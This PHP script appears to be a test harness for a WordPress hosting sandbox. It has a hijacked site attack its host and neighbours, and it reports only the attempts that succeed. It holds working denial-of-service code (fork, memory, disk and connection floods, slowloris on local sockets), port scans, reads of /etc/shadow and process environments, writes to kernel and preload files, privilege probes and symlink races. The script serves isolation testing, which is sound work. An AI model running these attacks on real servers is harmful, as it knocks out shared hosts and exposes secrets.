<?php
/**
 * One way in which a site that is not its owner's any more may go at the host and its neighbours, until a time:
 * attack.php VECTOR SECONDS [key=value ...]. Run inside the site. What is tried is told to fail; only what worked though it
 * must not is printed, as "HOLE ...".
 */
declare(strict_types=1);

[, $vector, $seconds] = $argv;
$end = microtime(true) + (float) $seconds;
$with = [];
foreach (array_slice($argv, 3) as $pair) {
    [$key, $value] = explode('=', $pair, 2);
    $with[$key] = $value;
}

function goes_on(): bool
{
    return microtime(true) < $GLOBALS['end'];
}

function hole(string $what): void
{
    echo "HOLE $what\n";
}

/** Output and status of a shell's command; the status is all that matters mostly. */
function shell(string $command): array
{
    exec("$command 2>/dev/null </dev/null", $lines, $status);
    return [implode("\n", $lines), $status];
}

function forks(int $most): void
{
    while (goes_on()) {
        shell("i=0; while [ \$i -lt $most ]; do i=\$((i + 1)); sleep 2 & done; wait");
    }
}

function memory(int $most): void
{
    ini_set('memory_limit', '-1');
    while (goes_on()) {
        $held = [];
        for ($i = 0; $i < $most && goes_on(); ++$i) {
            $held[] = str_repeat(chr(65 + $i % 26), 1 << 20);
        }
        usleep(200000);
    }
}

function disk(int $most): void
{
    $piece = str_repeat('x', 1 << 20);
    while (goes_on()) {
        foreach (['/srv/www/wp-content/fill', '/tmp/fill', '/var/tmp/fill2'] as $path) {
            $file = @fopen($path, 'w');
            for ($i = 0; $i < $most && goes_on() && $file && @fwrite($file, $piece) === strlen($piece); ++$i) {
            }
        }
        array_map('unlink', glob('{/srv/www/wp-content/fill,/tmp/fill,/var/tmp/fill2}', GLOB_BRACE));
    }
}

function inodes(int $most): void
{
    while (goes_on()) {
        @mkdir('/srv/www/wp-content/many');
        for ($i = 0; $i < $most && goes_on() && @touch("/srv/www/wp-content/many/$i"); ++$i) {
        }
        shell('rm -rf /srv/www/wp-content/many');
    }
}

function burn(): void
{
    for ($text = 'x'; goes_on(); $text = hash('sha512', $text)) {
    }
}

/** As many connections as go, to whoever must not answer. */
function flood(array $targets): void
{
    while (goes_on()) {
        $open = [];
        foreach ($targets as $target) {
            for ($i = 0; $i < 50; ++$i) {
                $flags = STREAM_CLIENT_CONNECT | STREAM_CLIENT_ASYNC_CONNECT;
                $open[] = @stream_socket_client("tcp://$target", $code, $text, 0.1, $flags);
            }
        }
        usleep(1000);
    }
}

function scan(array $hosts): void
{
    for ($port = 1; goes_on(); $port = $port % 65535 + 1) {
        foreach ($hosts as $host) {
            if (@fsockopen($host, $port, $code, $text, 0.2) && !in_array($port, [80, 443])) {
                hole("$host:$port answers");
            }
        }
    }
}

/** Each packet is a new flow to the kernel. */
function datagrams(string $host): void
{
    while (goes_on()) {
        for ($port = 1024; $port < 65536 && goes_on(); ++$port) {
            if ($socket = @stream_socket_client("udp://$host:$port")) {
                @fwrite($socket, 'x');
            }
        }
    }
}

function loris(): void
{
    while (goes_on()) {
        $held = [];
        for ($i = 0; $i < 1500; ++$i) {
            foreach (['/run/wpns/http.sock', '/run/wpns/php.sock', '/run/wpns/mysqld.sock'] as $path) {
                if ($socket = @stream_socket_client("unix://$path", $code, $text, 0.1)) {
                    @fwrite($socket, 'G');
                    $held[] = $socket;
                }
            }
        }
        sleep(2);
    }
}

function poke(): void
{
    $writes = ['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/sys/power/state',
        '/proc/1/oom_score_adj', '/sys/fs/cgroup/cgroup.procs', '/proc/self/timens_offsets', '/dev/kmsg', '/dev/mem',
        '/etc/cron.d/x', '/run/x', '/usr/bin/x', '/etc/ld.so.preload', '/proc/sys/net/ipv4/ip_forward'];
    $reads = ['/etc/shadow', '/proc/kcore', '/proc/1/environ', '/proc/1/maps', '/dev/mem', '/sys/kernel/debug/x',
        '/var/lib/wpns/registry.toml', '/etc/wpns/wpns.toml', '/run/systemd/private'];
    while (goes_on()) {
        foreach ($writes as $path) {
            if (@file_put_contents($path, '0') === 1) {
                hole("$path can be written");
            }
        }
        foreach ($reads as $path) {
            if (is_string(@file_get_contents($path, false, null, 0, 16))) {
                hole("$path can be read");
            }
        }
        @file_put_contents('/proc/self/oom_score_adj', '-1000');
        if (trim((string) @file_get_contents('/proc/self/oom_score_adj')) < '0') {
            hole('the kernel would kill others first');
        }
        foreach (glob('/proc/[0-9]*') as $process) {
            @file_get_contents("$process/environ");
            @readlink("$process/root");
        }
    }
}

/** Programs that would give rights, on systems where somebody lets them. */
function rights(array $others): void
{
    $tries = ['unshare -r true', 'unshare -n true', 'nsenter -t 1 -m true', 'mount -t tmpfs x /tmp', 'su -c true',
        'mknod /tmp/sda b 8 0', 'chroot / true', 'ip link add x type dummy', 'nft list tables', 'systemctl stop nginx',
        'dmesg -C', 'date -s 2000-01-01', 'hostname x', 'sysctl -w vm.swappiness=1', 'crontab -l', 'loginctl list-users',
        'cp /bin/true /tmp/t && /tmp/t', 'renice -n -20 $$', 'chrt -f 99 true', 'ionice -c 1 true',
        'cp /bin/sleep /tmp/s; chmod 4755 /tmp/s && test -u /tmp/s', 'chattr -p 7 /tmp', 'setfattr -n security.x -v 1 /tmp'];
    while (goes_on()) {
        foreach ($tries as $try) {
            if (shell($try)[1] === 0) {
                hole($try);
            }
        }
        foreach ($others as $other) {
            if (@posix_kill((int) $other, 0)) {
                hole("process $other can be sent signals");
            }
        }
        foreach ([[AF_INET, SOCK_RAW, 1], [AF_INET, SOCK_RAW, 255], [17, SOCK_RAW, 0x300], [16, SOCK_RAW, 0]] as $kind) {
            if (function_exists('socket_create') && @socket_create(...$kind)) {
                hole('a socket of kind ' . implode(' ', $kind));
            }
        }
    }
}

/** What root looks at is now a directory, now a link to somewhere else. */
function links(): void
{
    $base = '/srv/www/wp-content';
    foreach (['/etc', '/var/lib/wpns/sites', '/', '../../..'] as $i => $target) {
        @symlink($target, "$base/link$i");
    }
    @mkdir("$base/there");
    @symlink('/etc', "$base/other");
    while (goes_on()) {
        foreach (['uploads', 'plugins/x', 'there'] as $name) {
            @rename("$base/$name", "$base/swap");
            @rename("$base/other", "$base/$name");
            @rename("$base/$name", "$base/other");
            @rename("$base/swap", "$base/$name");
        }
        @symlink('/etc/passwd', "$base/cache.php");
        @link('/etc/passwd', "$base/hard");
        @unlink("$base/cache.php");
    }
}

function sql(): void
{
    mysqli_report(MYSQLI_REPORT_OFF);
    while (goes_on()) {
        $open = [];
        for ($i = 0; $i < 60; ++$i) {
            $open[] = @mysqli_connect('localhost', 'wordpress', '', 'wordpress', 0, '/run/wpns/mysqld.sock');
        }
        $open = array_filter($open);
        foreach ($open as $i => $link) {
            @mysqli_query($link, "CREATE TABLE IF NOT EXISTS t$i (a INT, b LONGTEXT)");
            @mysqli_query($link, "INSERT INTO t$i VALUES ($i, REPEAT('x', 500000))");
            @mysqli_query($link, 'SELECT BENCHMARK(2000000, SHA2(1, 512))', MYSQLI_ASYNC);
        }
        usleep(500000);
        foreach (array_keys($open) as $i) {
            if ($link = @mysqli_connect('localhost', 'wordpress', '', 'wordpress', 0, '/run/wpns/mysqld.sock')) {
                @mysqli_query($link, "DROP TABLE IF EXISTS t$i");
                @mysqli_close($link);
            }
        }
    }
}

function mails(string $host): void
{
    while (goes_on()) {
        @mail('somebody@example.com', 'x', str_repeat('x', 1000));
        if (@fsockopen($host, 25, $code, $text, 0.2)) {
            hole("$host takes mail");
        }
    }
}

match ($vector) {
    'forks', 'memory', 'disk', 'inodes' => $vector((int) $with['most']),
    'flood' => flood(explode(',', $with['at'])),
    'scan' => scan(explode(',', $with['at'])),
    'datagrams', 'mails' => $vector($with['at']),
    'rights' => rights(explode(',', $with['pids'])),
    'burn', 'loris', 'poke', 'links', 'sql' => $vector(),
};
